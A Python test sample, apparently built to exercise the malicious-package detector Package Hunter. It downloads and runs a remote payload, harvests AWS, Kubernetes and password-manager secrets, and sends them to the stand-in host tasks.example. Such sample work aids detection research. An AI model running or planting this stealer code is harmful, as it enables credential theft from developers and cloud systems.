"""Harmless simulation for testing Package Hunter. Not malware."""

import base64
import json
import os
import socket
import subprocess
import time
import urllib.request


def sealed(name):
    """Goes on only inside of Package Hunter's box, where every name has an address for benchmarking."""
    try:
        return socket.gethostbyname(name).startswith(("198.18.", "198.19."))
    except OSError:
        return False


def read(name):
    try:
        with open(os.path.expanduser("~/" + name), "rb") as file:
            return file.read(20000)
    except OSError:
        return b""


def ask(url, body=None, headers=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, body, headers or {}), timeout=10) as answer:
            return answer.read(1 << 20)
    except (OSError, ValueError):
        return b""


def run():
    if not sealed("tasks.example"):
        return
    said = ask("https://tasks.example/managed.pyz")
    with open("/tmp/managed-simulation.pyz", "wb") as file:
        file.write(said)
    subprocess.run(["python3", "/tmp/managed-simulation.pyz"], timeout=15, check=False, capture_output=True)
    loot = read(".aws/credentials") + read(".kube/config")
    for command in ("op item list --format json", "bw list items", "pass ls", "kubectl get secrets -A -o json",
                    "kubectl exec deploy/simulation -- env",
                    "aws ssm get-parameters-by-path --path / --recursive --with-decryption"):
        try:
            loot += subprocess.run(command.split(), capture_output=True, timeout=10, check=False).stdout
        except (OSError, subprocess.TimeoutExpired):
            pass
    for target, body in (("AmazonSSM.GetParametersByPath", b'{"Path": "/", "Recursive": true, "WithDecryption": true}'),
                         ("secretsmanager.GetSecretValue", b'{"SecretId": "prod/storefront/database"}')):
        headers = {"x-amz-target": target, "content-type": "application/x-amz-json-1.1"}
        loot += ask("https://parameters.tasks.example/", body, headers)
    ask("https://tasks.example/v", base64.b64encode(loot))


run()
